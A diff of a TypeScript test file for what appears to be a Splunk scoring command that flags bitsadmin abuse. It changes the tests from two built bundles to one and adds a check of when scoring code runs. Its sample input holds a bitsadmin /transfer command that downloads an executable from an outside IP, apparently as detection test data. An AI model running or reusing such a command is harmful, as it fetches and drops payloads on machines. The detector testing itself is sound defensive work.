@@ -1,12 +1,12 @@
-/** The program as it is shipped: bundles and launcher, as processes. */
+/** The program as it is shipped: bundle and launcher, as processes. */
 import { existsSync, readFileSync, readdirSync, statSync } from 'node:fs';
 import { builtinModules } from 'node:module';
-import { basename, join } from 'node:path';
+import { join } from 'node:path';
 import { signals } from '../../src/score/index.js';
 import { execute, getinfo, records, replies } from './conversation.js';
-import { Installed, bundles } from './installed.js';
+import { Installed, bundle } from './installed.js';
 
-const describeBuilt = bundles.every((bundle) => existsSync(bundle)) ? describe : describe.skip;
+const describeBuilt = existsSync(bundle) ? describe : describe.skip;
 const input = Buffer.concat([getinfo(), execute('process,_chunked_idx\nbitsadmin /transfer j http://203.0.113.7/a.exe C:\\a.exe,0\n')]);
 
 let app: Installed;
@@ -16,20 +16,21 @@ beforeEach(() => {
 });
 afterEach(() => { app.remove(); });
 
-describeBuilt('the bundles (npm run build makes them)', () => {
-  test('are small, and hold no package', () => {
-    expect(bundles.map((bundle) => statSync(bundle).size).reduce((sum, size) => sum + size)).toBeLessThanOrEqual(120 * 1024);
-    for (const bundle of bundles) {
-      const text = readFileSync(bundle, 'utf8');
-      expect(text).not.toContain('node_modules');
-      const asked = [...text.matchAll(/\brequire\("([^"]+)"\)/g)].map((match) => match[1] ?? '');
-      expect(asked.filter((name) => !name.startsWith('node:') || !builtinModules.includes(name.slice(5)))).toEqual([]);
-    }
+describeBuilt('the bundle (npm run build makes it)', () => {
+  test('is small, and holds no package', () => {
+    const text = readFileSync(bundle, 'utf8');
+    expect(statSync(bundle).size).toBeLessThanOrEqual(120 * 1024);
+    expect(text).not.toContain('node_modules');
+    const asked = [...text.matchAll(/\brequire\("([^"]+)"\)/g)].map((match) => match[1] ?? '');
+    expect(asked.filter((name) => !name.startsWith('node:') || !builtinModules.includes(name.slice(5)))).toEqual([]);
   });
 
-  test('what getinfo needs is an eighth of it', () => {
-    const [first = 0, second = 0] = bundles.map((bundle) => statSync(bundle).size);
-    expect(first * 7).toBeLessThan(first + second);
+  test('runs what scores only when rows come', () => {
+    const marked = readFileSync(bundle, 'utf8').replace(/(["'`])source-public-address\1/, '(() => { throw new Error("read"); })()');
+    app.file('bin/bitsscore.cjs', marked, 0o644);
+    const information = app.start({ input: getinfo() });
+    expect([information.status, replies(information.stdout).length]).toEqual([0, 1]);
+    expect(app.start({ input })).toMatchObject({ status: 1, err: '' });
   });
 
   test('score by way of the launcher, write nothing to stderr, and log with their pid', () => {
@@ -75,12 +76,5 @@ describeBuilt('the bundles (npm run build makes them)', () => {
 
   test('an input that ends inside a chunk ends in exit code 1 and no output', () => {
     expect(app.start({ input: input.subarray(0, 30) })).toMatchObject({ status: 1, out: '', err: '' });
-  });
-
-  test('a program that lacks its second file says so in its log, and answers nothing wrong', () => {
-    app.file(join('bin', basename(bundles[1] ?? '')), '', 0o644);
-    const { status, stdout, err } = app.start({ input });
-    expect([status, err, replies(stdout)]).toEqual([1, '', [expect.objectContaining({ metadata: expect.objectContaining({ type: 'stateful' }) as unknown })]]);
-    expect(readFileSync(join(app.home, 'var/log/splunk/bitsscore.log'), 'utf8')).toContain('"level":"ERROR"');
   });
 });
